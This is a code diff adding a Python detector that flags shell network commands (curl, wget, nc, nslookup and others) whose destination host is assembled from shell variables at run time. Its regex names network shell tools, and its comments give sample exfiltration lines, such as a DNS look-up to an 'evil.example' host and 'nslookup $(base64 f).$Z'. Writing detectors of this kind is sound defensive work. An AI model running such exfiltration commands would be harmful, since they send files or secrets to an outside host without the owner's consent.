@@ -27,6 +27,7 @@ import re
 from collections.abc import Iterable
 from urllib.parse import unquote
 
+from goalrail.policies.provenance_disguises import is_bare_domain
 from goalrail.policies.provenance_values import nfkc
 
 MIN_SKELETON = 8
@@ -108,3 +109,37 @@ def _b32(run: str) -> bytes | None:
         return base64.b32decode(run + "=" * (-len(run) % 8))
     except (binascii.Error, ValueError):
         return None
+
+
+#: A command that sends to the host it is given (DNS look-ups included: ``nslookup <data>.evil.example``).
+_NET_COMMAND = re.compile(
+    r"(?<![\w\-.])(?:curl|wget|nc|ncat|netcat|socat|nslookup|dig|host|ping|ssh|scp|sftp|rsync|telnet|ftp|http|git)"
+    r"(?![\w\-.])((?:\$\([^)\n]*\)|[^\n;|&])*)"
+)
+_ASSIGNED = re.compile(r"(?<![\w$])([A-Za-z_]\w*)=(\"[^\"\n$`]*\"|'[^'\n]*'|[^\s;|&$`'\"()]*)")
+_VARIABLE = re.compile(r"\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))")
+#: A shell substitution next to a dot: ``$A.``, ``${B}.``, ``$(cmd).``, ``.$B``.
+_SUBSTITUTED = re.compile(r"(?:\$\w+|\$\{[^}\s]*\}|\))\.|\.\$[{(\w]")
+
+
+def templated_hosts(text: str) -> list[str]:
+    """Hosts a network command in shell code is given as shell substitutions joined by dots
+    (``A=notes; B=example; curl -d @f $A.$B/in``, ``nslookup $(base64 f).$Z``): a destination that only
+    exists at run time.  Variables the text assigns a plain value are filled in (``A=drop-point``: the
+    host is then checked as written); what still holds a ``$`` is only known at run time.  Only a command
+    that names no literal link or domain of its own counts (``curl -o $NAME.tar.gz https://…`` saves to a
+    file)."""
+    if "$" not in text:
+        return []
+    values = {m.group(1): m.group(2).strip("\"'") for m in _ASSIGNED.finditer(text)}
+
+    def fill(m: re.Match[str]) -> str:
+        return values.get(m.group(1) or m.group(2), m.group(0))
+
+    out: list[str] = []
+    for m in _NET_COMMAND.finditer(text):
+        words = m.group(1).split()
+        if any("://" in w or ("$" not in w and ("@" in w[1:] or is_bare_domain(w.strip("\"'")))) for w in words):
+            continue
+        out += [_VARIABLE.sub(fill, w.strip("\"'")) for w in words if w[:1] not in "-@" and _SUBSTITUTED.search(w)]
+    return out
